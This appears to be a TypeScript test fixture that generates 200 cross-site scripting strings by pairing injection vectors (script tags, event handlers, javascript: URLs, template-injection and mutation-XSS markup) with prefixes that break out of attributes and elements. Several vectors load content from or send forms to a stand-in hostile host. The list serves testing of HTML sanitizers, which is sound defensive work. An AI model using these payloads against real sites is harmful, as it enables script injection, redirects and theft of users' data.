const act = "window.__terpicu=1,alert('x')";

/** Ways for a text to become a script. */
const vectors = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}">`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<body onload="${act}">`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<a href="javascript:${act}">klik</a>`,
  `<details open ontoggle="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${act}">`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<link rel=stylesheet href="https://jahat.contoh.id/a.css">`,
  `<style>@import 'https://jahat.contoh.id/a.css';</style>`,
  `<base href="https://jahat.contoh.id/">`,
  `<meta http-equiv=refresh content="0;url=https://jahat.contoh.id/">`,
  `<form action="https://jahat.contoh.id/"><button autofocus>`,
  `<template shadowrootmode=open><script>${act}</script></template>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `{{constructor.constructor("${act}")()}}`,
  `\${${act}}`,
  `" onmouseover="${act}" style="position:fixed;inset:0" x="`,
  `\u003cscript\u003e${act}\u003c/script\u003e`,
  `&lt;img src=x onerror=&quot;${act}&quot;&gt;`,
];

/** Prefixes that close the attribute or element around the text. */
const ways = ['', '">', "'>", '</textarea>', '</title></style></script>', '-->', '`;//', ']]>'];

/** 200 different texts that attempt to run a script. */
export const scriptingTexts: readonly string[] = ways.flatMap((way) => vectors.map((vector) => way + vector));
